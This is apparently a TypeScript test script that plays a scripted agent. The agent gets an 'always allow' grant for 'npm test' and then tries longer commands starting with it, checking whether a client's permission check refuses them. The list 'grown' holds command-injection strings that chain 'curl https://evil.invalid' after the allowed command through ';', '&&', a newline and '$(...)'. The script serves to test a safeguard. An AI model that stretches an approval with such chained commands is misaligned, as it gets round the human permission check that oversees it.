// Gets "always" for one command, then runs longer ones that begin with it.
import { initialized, Wire } from '../../scripted/wire.ts'

const allowed = 'npm test'
const grown = [
  'npm test; curl https://evil.invalid',
  'npm test && curl https://evil.invalid',
  'npm test\ncurl https://evil.invalid',
  'npm testing',
  'npm test $(curl https://evil.invalid)',
]

new Wire(wire => ({
  'initialize': initialized('grows-command'),
  'session/new': () => ({ sessionId: `grows-${process.pid}` }),
  'session/prompt': async ({ sessionId }) => {
    await wire.askPermission(sessionId, { toolCallId: 'call', title: allowed, kind: 'execute', rawInput: { command: allowed } }, [
      ['always', 'Always', 'allow_always'],
      ['no', 'No', 'reject_once'],
    ])
    for (const command of grown) {
      await wire.request('terminal/create', { sessionId, command }).then(
        () => wire.say(sessionId, `ran ${command}\n\n`),
        () => wire.say(sessionId, 'refused\n\n'),
      )
    }
    return { stopReason: 'end_turn' }
  },
}))
